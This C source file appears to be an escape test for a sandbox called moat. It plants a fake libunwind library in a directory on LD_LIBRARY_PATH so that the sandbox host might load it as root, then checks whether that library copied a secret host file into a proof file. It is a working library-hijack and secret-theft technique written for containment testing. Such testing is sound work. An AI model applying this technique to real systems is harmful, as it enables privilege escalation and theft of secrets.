/* esc_walker_libpath — get code of the sandbox's run as root outside it,
 * through a library moat would load while the sandbox runs.
 *
 * moat's stack walker maps libunwind itself, at a run's first stack.  When
 * the caller's LD_LIBRARY_PATH names a directory the sandbox can write (an
 * empty element is moat's cwd, often a --bind; here an absolute entry that
 * is a --bind), a dlopen then would find the sandbox's file first.  The
 * attempt plants a library named libunwind-x86_64.so.8 there (its
 * constructor copies the secret to DIR/proof when its environment says so:
 * moat's environment does, through the runner's menv), makes a denied call
 * (a stack is walked for its record), and looks for the secret in
 * DIR/proof.  Natively it loads the library itself, as root.
 *
 * Attacks rule 1 (moat's own process never runs what the sandbox chose)
 * and the walker's containment (docs/audit.md): moat maps libunwind at its
 * start when LD_LIBRARY_PATH is set (stack_unwinder_early), before anything
 * of the sandbox's exists.
 *
 * usage: ESC_TOKEN=... esc_walker_libpath DIR SECRET
 *        (DIR: the planted directory, writable; SECRET: a host file that
 *        holds the token, outside the view)
 */
#include <dlfcn.h>
#include <libgen.h>
#include <signal.h>

#include "esc.h"

int main(int argc, char **argv)
{
	if (argc < 3 || argv[1][0] != '/' || argv[2][0] != '/')
		esc_usage("esc_walker_libpath /ABS/DIR /ABS/SECRET");
	esc_token();
	char self[4096], lib[4200], planted[4200], proof[4200];
	snprintf(self, sizeof self, "%s", argv[0]);
	snprintf(lib, sizeof lib, "%s/esc_walker_lib.so", dirname(self));
	snprintf(planted, sizeof planted, "%s/libunwind-x86_64.so.8", argv[1]);
	snprintf(proof, sizeof proof, "%s/proof", argv[1]);
	if (esc_copy_file(lib, planted, O_TRUNC) < 0) {
		esc_held("plant %s: %s", planted, esc_errname(errno));
		return esc_finish();
	}
	fprintf(stderr, "# planted %s\n", planted);
	/* Natively this process is the host's: it loads the library itself
	 * (under moat its constructor finds no secret: outside the view). */
	setenv("ESC_FAKE_SECRET", argv[2], 1);
	setenv("ESC_FAKE_OUT", proof, 1);
	void *h = dlopen(planted, RTLD_NOW | RTLD_LOCAL);
	fprintf(stderr, "# own dlopen: %s\n", h ? "loaded" : dlerror());
	/* A denied call: moat walks its stack for the audit record. */
	int k = kill(1, 0);
	fprintf(stderr, "# kill(1, 0): %d %s\n", k, k ? esc_errname(errno) : "");
	for (int i = 0; i < 40; i++) {
		char buf[256];
		int fd = open(proof, O_RDONLY | O_CLOEXEC);
		ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
		if (fd >= 0)
			close(fd);
		if (n > 0 && esc_is_token(buf, (size_t)n)) {
			esc_won("a library planted in %s ran with the host's access (the secret "
				"in %s)",
				argv[1], proof);
			return esc_finish();
		}
		usleep(50 * 1000);
	}
	esc_held("the planted library never ran outside the sandbox");
	return esc_finish();
}
